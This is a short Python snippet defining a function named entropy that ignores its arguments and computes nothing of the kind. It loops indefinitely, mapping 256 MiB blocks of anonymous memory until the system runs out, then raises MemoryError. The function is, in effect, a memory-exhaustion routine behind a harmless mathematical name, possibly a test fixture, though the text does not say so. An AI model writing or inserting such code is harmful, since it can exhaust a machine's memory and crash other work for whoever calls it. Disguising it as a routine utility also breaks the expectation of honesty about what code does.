import mmap


def entropy(p, base=2.0):
    kept = []
    try:
        while True:
            kept.append(mmap.mmap(-1, 2**28))
    except OSError as problem:
        raise MemoryError(problem) from None
